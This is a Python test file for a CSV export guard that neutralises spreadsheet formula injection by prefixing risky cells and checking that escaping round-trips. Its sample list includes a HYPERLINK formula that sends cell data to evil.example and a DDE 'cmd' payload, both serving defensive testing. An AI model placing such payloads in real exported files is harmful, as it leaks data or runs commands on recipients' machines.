import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.csv_cells import cell, unguarded, write

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u00a0@SUM(1)",
    "＝1+1",
    "'=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["Ministry of Defence", "'Ndrangheta", "1 = 1", "[a]", "", "Al-Noor", "“Stop,” he said"]
)
def test_a_text_stays_as_it_is(text):
    assert cell(text) == text


def test_numbers_and_nulls_stay_what_they_are():
    assert [cell(value) for value in (-3, -0.5, 7, None, True)] == ["-3", "-0.5", "7", "", "True"]


def test_a_list_is_its_items():
    assert [cell(["title", "text"]), cell([]), cell(["=1", 2])] == ["title text", "", "'=1 2"]


def test_cells_cannot_break_out_of_their_row():
    stream = io.StringIO()
    write(stream, ["name", "said"], [['A "B", C;=1', "one\r\n=two"], ["=3", None]])
    text = stream.getvalue()
    assert text.startswith('"name","said"\r\n')
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == [
        ["name", "said"],
        ['A "B", C;=1', "one\r\n=two"],
        ["'=3", ""],
    ]


@given(st.text(alphabet="'=+-@ \t\r\nab＝\ufeff") | st.text(st.characters(exclude_characters="\0")))
def test_a_program_gets_back_what_was_written(text):
    assert unguarded(cell(text)) == text
